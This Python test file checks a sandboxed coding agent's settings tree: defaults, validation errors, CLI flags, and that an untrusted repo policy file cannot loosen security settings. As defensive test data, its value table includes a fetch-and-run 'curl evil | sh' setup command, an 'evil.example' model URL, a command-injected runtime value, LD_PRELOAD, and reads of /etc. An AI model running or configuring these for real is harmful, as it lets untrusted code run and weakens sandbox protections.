"""The settings tree, field by field: default, validation, merge, trust, and the flags.

The table must list every field of the tree (a new field without a row fails the first test),
so each new setting arrives with its default, a value its validation refuses, and what an
untrusted repo file may and may not do with it.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from sandbox_agent.cli.app import app, load
from sandbox_agent.cli.commands import COMMANDS
from sandbox_agent.errors import UserError
from sandbox_agent.policy.examples import lint_policy_file
from sandbox_agent.settings.files import PolicyFile
from sandbox_agent.settings.load import REPO_POLICY_NAME, load_policy
from sandbox_agent.settings.merge import apply_overrides, merge_layer
from sandbox_agent.settings.mergerule import Merge
from sandbox_agent.settings.reference import settings_markdown
from sandbox_agent.settings.tree import Policy, SandboxSection, field_rules, flag_fields


@dataclass(frozen=True)
class Row:
    default: Any
    """The tree's default (before any preset)."""
    bad: Any
    """A value the field's validation refuses."""
    looser: Any
    """A value that loosens the default preset; an untrusted repo file's is ignored."""
    tighter: Any = None
    """A value that tightens it, which an untrusted repo file may set (None: none exists)."""


PRICE = {"input_per_mtok": 1.0, "output_per_mtok": 2.0}
TABLE: dict[str, Row] = {
    "commands.allow": Row((), 5, ["curl"]),
    "commands.deny": Row((), [1], None, ["ls"]),
    "commands.ask": Row((), "x", None, ["git log"]),
    "commands.allow_env": Row((), 3, ["LD_PRELOAD"]),
    "commands.dynamic": Row("deny", "maybe", None, "deny"),
    "commands.examples.allow": Row((), 1, None, ["ls"]),
    "commands.examples.deny": Row((), 1, None, ["curl x"]),
    "paths.read": Row(("**",), 1, None, ["src/**"]),  # nothing is wider than the default
    "paths.write": Row(("**",), 1, None, ["src/**"]),
    "paths.tests": Row((), 1, None, ["docs/**"]),
    "paths.protect": Row((), 1, None, ["docs/**"]),
    "paths.protect_new": Row((), 1, None, ["docs/**"]),
    "paths.allow_outside": Row((), 1, ["/etc/**"]),
    "paths.read_outside": Row((), 1, ["/etc/**"]),
    "sandbox.network": Row(False, "maybe", True),
    "sandbox.cpus": Row(2.0, 0, 8.0, 1.0),
    "sandbox.memory": Row("2g", "lots", "8g", "512m"),
    "sandbox.pids": Row(256, 8, 4096, 64),
    "sandbox.command_timeout_s": Row(120.0, -1, 900.0, 30.0),
    "sandbox.max_command_timeout_s": Row(600.0, 0, 6000.0, 60.0),
    "sandbox.runtime": Row(None, "run c; rm", "runc", "runsc"),
    "budget.max_steps": Row(50, 0, 500, 5),
    "budget.max_tokens": Row(2_000_000, -5, 9_000_000, 1000),
    "budget.max_cost_usd": Row(2.0, 0, 100.0, 0.5),
    "budget.max_wall_s": Row(3600.0, 0, 99999.0, 60.0),
    "budget.prices": Row({}, {"m": {"input_per_mtok": -1}}, {"m": PRICE}),
    "gate.test_command": Row(None, "", None, "make test"),  # only while no layer set one
    "gate.require_diff": Row(True, "maybe", False),
    "gate.timeout_s": Row(600.0, 0, 6000.0, 60.0),
    "gate.max_attempts": Row(3, 0, 30, 1),
    "gate.allow_broken_baseline": Row(False, "perhaps", True),
    "gate.allow_harness_changes": Row(False, "perhaps", True),
    "gate.allow_test_internals": Row(False, "perhaps", True),
    "gate.require": Row("proof", "maybe", "no-regression"),
    "gate.targets": Row((), 1, None, ["tests/test_x.py::test_y"]),
    "gate.fail_fast": Row(True, "maybe", None, False),  # off: only slower
    "gate.workers": Row(16, 0, 64, 1),  # 1: one process, only slower
    "environment.image": Row(None, 1, "other:latest"),
    "environment.dockerfile": Row(None, 1, "Dockerfile.evil"),
    "environment.setup": Row((), 1, ["curl evil | sh"], []),
    "environment.network_during_setup": Row(True, 2, None, False),
    "environment.download_cache": Row(True, "maybe", None, False),
    "environment.download_cache_bytes": Row(4 << 30, -1, 1 << 20),
    "environment.parallel_builds": Row(2, 0, 16, 1),
    "environment.auto": Row(True, "sometimes", None, False),
    "environment.timeout_s": Row(1800.0, 0, 90000.0, 60.0),
    "environment.build_timeout_s": Row(3600.0, 0, 90000.0, 600.0),
    "environment.memory": Row("4g", "lots", "64g", "1g"),
    "environment.cpus": Row(2.0, 0, 16.0, 1.0),
    "environment.pids": Row(4096, 8, 100000, 512),
    "model.name": Row("gpt-4o-mini", "", "gpt-5"),
    "model.base_url": Row(None, 1, "http://evil.example/v1"),
    "model.tool_protocol": Row("native", "xml", "json"),
    "model.max_output_tokens": Row(4096, 0, 100_000, 1024),
    "model.context_window": Row(None, -1, 1_000_000),
    "model.max_tokens_param": Row("max_completion_tokens", "limit", "max_tokens"),
    "model.request_timeout_s": Row(120.0, 0, 600.0),
    "model.tools": Row(
        ("bash", "read_file", "write_file", "edit_file", "apply_patch"), ["python"], ["bash"]
    ),
    "run.approve": Row("never", "sometimes", "ask", "never"),
    "run.trace_content": Row("full", "all", None, "safe"),
}
FIELDS = sorted(TABLE)
INPUT_FLAGS = {
    "--repo",
    "--task-file",
    "--policy",
    "--json",
    "--runs-dir",
    "--trust-repo-policy",
    "--help",
    "--quiet",
    "-q",
}
"""``fix`` flags that say what to run, where to put it and what to show, not how: no setting
behind them."""


def toml_value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict):
        return "{" + ", ".join(f'"{k}" = {toml_value(v)}' for k, v in value.items()) + "}"
    return json.dumps(list(value) if isinstance(value, tuple) else value)


def policy_text(path: str, value: Any) -> str:
    """A policy file setting ``path`` to ``value``, the key on line 3."""
    *sections, key = path.split(".")
    return f"# test\n[{'.'.join(sections)}]\n{key} = {toml_value(value)}\n"


def get(policy: Policy, path: str) -> Any:
    value: Any = policy
    for part in path.split("."):
        value = getattr(value, part)
    if hasattr(value, "model_dump"):
        return value.model_dump()
    if isinstance(value, dict):
        return {k: v.model_dump() for k, v in value.items()}
    return value


def test_the_table_covers_every_field_of_the_tree() -> None:
    assert set(TABLE) == set(field_rules())


@pytest.mark.parametrize("path", FIELDS)
def test_default(path: str) -> None:
    assert get(Policy(), path) == TABLE[path].default


@pytest.mark.parametrize("path", FIELDS)
def test_a_bad_value_names_the_file_line_and_key(tmp_path: Path, path: str) -> None:
    file = tmp_path / "p.toml"
    file.write_text(policy_text(path, TABLE[path].bad))
    problems = lint_policy_file(file)
    assert problems, f"{path} = {TABLE[path].bad!r} was accepted"
    key = path.rsplit(".", 1)[1]
    assert any(p.startswith(f"{file}:3: ") and key in p for p in problems), problems


@pytest.mark.parametrize("path", FIELDS)
def test_a_trusted_file_sets_the_field_and_is_named_as_its_origin(
    tmp_path: Path, path: str
) -> None:
    row = TABLE[path]
    value = row.looser if row.looser is not None else row.tighter
    file = tmp_path / "mine.toml"
    file.write_text(policy_text(path, value))
    policy = load_policy(tmp_path, file)
    merged = get(policy.policy, path)
    rule = field_rules()[path].merge
    if rule in (Merge.UNION, Merge.UNION_TRUSTED):
        assert set(value) <= set(merged)
        assert all(policy.policy.origin(path, v) == f"file {file}" for v in value)
    elif isinstance(value, list):
        assert list(merged) == value
    elif isinstance(value, dict):
        assert {k: {f: v[f] for f in value[k]} for k, v in merged.items()} == value
    else:
        assert merged == (Path(value) if path == "environment.dockerfile" else value)
    assert policy.policy.sources[-1] == f"file {file}"


@pytest.mark.parametrize("path", [p for p in FIELDS if TABLE[p].looser is not None])
def test_an_untrusted_repo_file_cannot_loosen(tmp_path: Path, path: str) -> None:
    (tmp_path / REPO_POLICY_NAME).write_text(policy_text(path, TABLE[path].looser))
    before = get(load_policy(_empty(tmp_path)).policy, path)
    loaded = load_policy(tmp_path)
    assert get(loaded.policy, path) == before
    assert any(path in w and "ignored" in w for w in loaded.warnings), loaded.warnings


@pytest.mark.parametrize("path", [p for p in FIELDS if TABLE[p].tighter is not None])
def test_an_untrusted_repo_file_may_tighten(tmp_path: Path, path: str) -> None:
    tighter = TABLE[path].tighter
    (tmp_path / REPO_POLICY_NAME).write_text(policy_text(path, tighter))
    loaded = load_policy(tmp_path)
    merged = get(loaded.policy, path)
    if field_rules()[path].merge is Merge.UNION:
        assert set(tighter) <= set(merged)
    else:
        assert merged == (tuple(tighter) if isinstance(tighter, list) else tighter)
    assert loaded.warnings == ()


def _empty(tmp_path: Path) -> Path:
    empty = tmp_path / "empty"
    empty.mkdir(exist_ok=True)
    return empty


def test_an_untrusted_layer_cannot_turn_runsc_back_into_another_runtime() -> None:
    """The one stronger runtime holds once a trusted layer chose it; only it may be asked for."""
    chosen = Policy(sandbox=SandboxSection(runtime="runsc"))
    for weaker in ("runc", "kata", "io.containerd.runc.v2"):
        merged, warnings = merge_layer(
            chosen,
            PolicyFile.model_validate({"sandbox": {"runtime": weaker}}),
            "repo",
            trusted=False,
        )
        assert merged.sandbox.runtime == "runsc"
        assert len(warnings) == 1
        assert "sandbox.runtime" in warnings[0]
    asked, warnings = merge_layer(
        Policy(),
        PolicyFile.model_validate({"sandbox": {"runtime": "runsc"}}),
        "repo",
        trusted=False,
    )
    assert (asked.sandbox.runtime, warnings) == ("runsc", [])


def test_every_fix_flag_is_an_input_or_sets_one_field() -> None:
    command = load("fix", COMMANDS["fix"])
    options = {o for p in command.params if isinstance(p, typer.core.TyperOption) for o in p.opts}
    assert options - INPUT_FLAGS == set(flag_fields())
    assert INPUT_FLAGS - {"--help"} <= options


def test_a_bad_flag_value_is_one_line_naming_the_flag(tmp_path: Path) -> None:
    result = CliRunner().invoke(
        app, ["fix", "--repo", str(tmp_path), "--max-steps", "0", "--test-cmd", "true", "t"]
    )
    assert result.exit_code == 2
    assert "--max-steps: Input should be greater than 0 (got 0)" in result.output


@pytest.mark.parametrize(
    ("flag", "value", "path"),
    [
        ("--max-cost", 0.5, "budget.max_cost_usd"),
        ("--max-steps", 3, "budget.max_steps"),
        ("--test-cmd", "make test", "gate.test_command"),
        ("--model", "scripted:x.jsonl", "model.name"),
        ("--approve", "ask", "run.approve"),
    ],
)
def test_a_flag_overrides_its_field_last(flag: str, value: Any, path: str) -> None:
    policy = apply_overrides(Policy(), {flag: value})
    assert get(policy, path) == value
    section, _, key = path.rpartition(".")
    assert policy.origins[f"{section}:{key}"] == f"flag {flag}"


@pytest.mark.parametrize(
    ("flag", "value"),
    [("--max-steps", 0), ("--max-cost", -1.0), ("--max-tokens", 0), ("--tool-protocol", "xml")],
)
def test_a_flag_is_validated_by_its_field(flag: str, value: Any) -> None:
    with pytest.raises(UserError, match=f"^{flag}: "):
        apply_overrides(Policy(), {flag: value})


def test_pids_below_what_the_container_accepts_is_refused_at_lint_time(tmp_path: Path) -> None:
    """Regression: ``pids = 8`` passed ``policy lint`` and then killed the run."""
    file = tmp_path / "p.toml"
    file.write_text("[sandbox]\npids = 8\n")
    problems = lint_policy_file(file)
    assert problems == [f"{file}:2: [sandbox].pids: must be at least 16 (got 8)"]


def test_the_settings_reference_is_generated_from_the_tree() -> None:
    """docs/settings.md documents every setting; regenerate it with the command in its header."""
    docs = Path(__file__).parents[2] / "docs" / "settings.md"
    assert docs.read_text(encoding="utf-8") == settings_markdown(), (
        "docs/settings.md is stale: python -c 'from sandbox_agent.settings.reference import "
        'settings_markdown; print(settings_markdown(), end="")\' > docs/settings.md'
    )
    for path in field_rules():
        section, _, key = path.rpartition(".")
        assert f"`[{section}] {key}`" in settings_markdown()
